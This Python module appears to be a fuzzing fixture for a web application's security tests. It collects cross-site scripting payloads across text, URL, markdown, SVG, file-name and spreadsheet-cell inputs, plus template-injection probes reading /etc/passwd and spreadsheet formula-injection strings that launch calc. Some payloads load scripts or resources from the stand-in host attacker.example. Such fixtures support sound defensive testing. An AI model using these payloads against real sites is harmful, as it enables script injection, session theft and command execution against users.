"""Texts by which somebody would make a page execute what they wrote, for each place that a text gets to.

All of them call `alert`, `prompt` or `confirm`, or ask `attacker.example` for something, so that a browser
shows what got through.
"""

from __future__ import annotations

from itertools import product
from typing import Final

CALL: Final = "alert(1)"
AWAY: Final = "//attacker.example/x"

BREAKS: Final = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</script>",
    '\\">',
    "&quot;>",
    "]]>",
    "</p></a>",
)
"""How a payload leaves the text or attribute in which it stands."""
ELEMENTS: Final = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f"<ScRiPt src={AWAY}></sCrIpT>",
    f"<details open ontoggle={CALL}>",
    f"<iframe src=javascript:{CALL}>",
    f"<math><mi xlink:href=javascript:{CALL}>x",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<object data=javascript:{CALL}>",
    f"<marquee onstart={CALL}>",
    f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content=0;url={AWAY}>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<style>@import'{AWAY}'</style>",
)
ATTRIBUTES: Final = (
    f'" onmouseover={CALL} x="',
    f"' onfocus={CALL} autofocus tabindex=1 x='",
    f'" autofocus onfocus="{CALL}',
    f"` onclick={CALL} x=`",
    f'"/onload="{CALL}',
    f'x" style="x:expression({CALL})',
    f'" srcdoc="<script>{CALL}</script>',
    f'" onpointerenter={CALL} style="position:fixed;inset:0',
    f'"\tonerror\t=\t{CALL}\tx="',
    f"&#34; onmouseover={CALL} x=&#34;",
    f'" formaction=javascript:{CALL} x="',
    f"x onanimationstart={CALL} style=animation:x",
)
TEMPLATES: Final = (
    "{{7*7}}", "{% include '/etc/passwd' %}", "{{ self.__init__.__globals__ }}", "{#", "{{", "%}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{ ''.__class__.__mro__ }}", "%(name)s", "{name}", "{0.__class__}", "%s%s%n",
)  # fmt: skip
"""Template expressions of Jinja and others, and format strings."""
FRAGMENTS: Final = (
    "<", "<a", "<!--", "<!-- --!>", "<![CDATA[", "<?xml", "<?php", "</", "<svg", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;svg onload=alert(1)&#x3e;", "＜script＞alert(1)＜/script＞",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "<scr<script>ipt>alert(1)",
    "<<script>alert(1)//<</script>", "<script/src=//attacker.example/x>", "<svg><script>alert&#40;1)</script>",
    "<svg><style><img src=x onerror=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea></textarea><img src=x onerror=alert(1)>",
    "<table><td background=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<form action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1) type=submit>",
    "<svg><a xlink:href=javascript:alert(1)><text>x", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x>", "<template><script>alert(1)</script></template>", "<plaintext>", "<xmp>",
    "';alert(1)//", "\";alert(1)//", "</script><script>alert(1)//", "*/alert(1)/*", "`${alert(1)}`", "\\';alert(1)//",
    "=cmd|'/c calc'!A1", "+alert(1)", "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "=HYPERLINK(\"//attacker.example\")",
)  # fmt: skip
TEXTS: Final = tuple(
    dict.fromkeys(
        [
            *("".join(pair) for pair in product(BREAKS, ELEMENTS)),
            *ATTRIBUTES,
            *TEMPLATES,
            *FRAGMENTS,
        ]
    )
)
"""For every field that takes a text."""

SCRIPT_ADDRESSES: Final = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript://a.example/%0aalert(1)", "java\tscript:alert(1)",
    " javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "javascript:alert`1`", "jav&#x0A;ascript:alert(1)", "\\javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x", "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "VBScript:x", "blob:x", "feed:x",
    "view-source:x", "file:///etc/passwd", "filesystem:x", "ws://attacker.example", "about:blank", "mhtml:x", "jar:x",
    "//attacker.example", "\\\\attacker.example", "/\\attacker.example", "https:attacker.example", "http:/\\x", "://x",
    "https://[", "https://a.example\" onmouseover=alert(1) x=\"", "https://a.example/'><script>alert(1)</script>",
    "https://a.example/{{7*7}}", "https://user:pass@a.example", "mailto:a@b.example?body=<script>alert(1)</script>",
    "tel:1\" onclick=alert(1)", "gi:javascript:alert(1)", "media:../../etc/passwd", "#\"><script>alert(1)</script>",
)  # fmt: skip
"""For every field that takes a web address, and for links of bodies."""
MARKDOWN_FRAMES: Final = (
    "[x]({})", "![x]({})", "<{}>", "[x][y]\n\n[y]: {}", '[x]({} "t")', '<a href="{}">x</a>', "<a href={}>x</a>",
    "<img src='{}'>", "[![x](a.png)]({})",
)  # fmt: skip
MARKDOWN: Final = (
    '[x](gi:g "\\" onmouseover=alert(1) x=\\"")', '[x](/ "t\' onclick=alert(1) x=\'")', "[x](gi:g){: onclick=alert(1) }",
    "# x {: onclick=alert(1) #y }", "# x {: style=x:y href=javascript:alert(1) }", "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>", "```\n<script>alert(1)</script>\n```", "```x onload=alert(1)\ny\n```",
    "[^1]\n\n[^1]: <script>alert(1)</script>", '[^"><svg onload=alert(1)>]\n\n[^"><svg onload=alert(1)>]: x',
    "<div markdown=1><script>alert(1)</script></div>", "<p/onclick=alert(1)>x", "<svg><g onload=alert(1)></svg>",
    '![" onerror=alert(1) x="](a.png)', '![x](a.png "\\" onerror=alert(1) x=\\"")', "| <script>alert(1)</script> |\n|---|\n| x |",
    "<!-- --><script>alert(1)</script>", "<!--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<https://a.example/\"onmouseover=alert(1)>", "https://a.example/<script>alert(1)</script>", "<x@y.example\"onclick=alert(1)>",
    "\x02klzzwxh:0000\x03", "&lt;script>alert(1)&lt;/script>", "**<script>**alert(1)</script>", "~~<svg onload=alert(1)>~~",
    "- [x] <script>alert(1)</script>", "> <script>alert(1)</script>", "1. <img src=x onerror=alert(1)>",
    "<td onclick=alert(1)>x", "<table><caption onclick=alert(1)>x", '<abbr title="\'><script>alert(1)</script>">x</abbr>',
    "<time datetime='x' onclick=alert(1)>", "<ol start='1\" onclick=\"alert(1)'><li>x</ol>", "<a id=location name=document>",
    "<form id=x><input name=parentNode>", "<img name=getElementById src=x>", "<a href='#' target=_blank ping=//attacker.example>",
    "<del cite=javascript:alert(1)>x</del>", "<q cite=javascript:alert(1)>", "<math href=javascript:alert(1)>x</math>",
)  # fmt: skip
BODIES: Final = tuple(
    dict.fromkeys(
        [
            *(frame.format(one) for frame, one in product(MARKDOWN_FRAMES, SCRIPT_ADDRESSES)),
            *MARKDOWN,
        ]
    )
)
"""For bodies, beside all `TEXTS`."""

SVG: Final = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"{}>{}</svg>'
DRAWINGS: Final = tuple(
    SVG.format(attribute, inside)
    for attribute, inside in (
        *((f' {name}="{CALL}"', "") for name in ("onload", "onclick", "onbegin", "ONLOAD", "style", "class", "id")),
        *(("", inside) for inside in (
            f"<script>{CALL}</script>", f'<a xlink:href="javascript:{CALL}"><path d="M0 0h9"/></a>', "<style>x</style>",
            f'<image xlink:href="{AWAY}"/>', f'<use href="{AWAY}#a"/>', f'<foreignObject onload="{CALL}"/>', "<text>x</text>",
            f'<animate onbegin="{CALL}"/>', f'<set attributeName="onload" to="{CALL}"/>', '<path d="M0 0" fill="url(//a)"/>',
            f'<path d="M0 0" onclick="{CALL}"/>', f'<g fill="expression({CALL})"/>', '<path d="&quot;&gt;&lt;script&gt;"/>',
            '<path d="M0 0" href="#"/>', '<g xmlns="http://www.w3.org/1999/xhtml"><script/></g>', "<!--><script>--><g/>",
            '<x:script xmlns:x="http://www.w3.org/2000/svg">x</x:script>', "<![CDATA[<script>]]>", "<?x <script>?>",
            '<path d="M0 0" style="background:url(//a)"/>', '<filter id="a"/>', '<linearGradient href="//a"/>',
        )),
    )
)  # fmt: skip
"""SVG files."""
FILE_NAMES: Final = (
    "'onerror=alert(1).png", "a b.png", "a&quot;.png", "a%22.png", "a'.png", "a`.png", "a{{7}}.png", "a;b.png", "a,b 2x.png",
    "a#b.png", "a?b.png", "a$(b).png", "&lt;script&gt;.png", "javascript.png", "a+b.png", "=1+1.png", "a..png", "data.png",
)  # fmt: skip
"""Names of pictures."""
CELLS: Final = (*TEXTS[::3], '"', '""', "a\nb", "=1+1", "a,b", '","id","x', "\t", "编号")
"""Cells of a table."""
ALL: Final = (*TEXTS, *SCRIPT_ADDRESSES, *BODIES, *DRAWINGS, *FILE_NAMES)
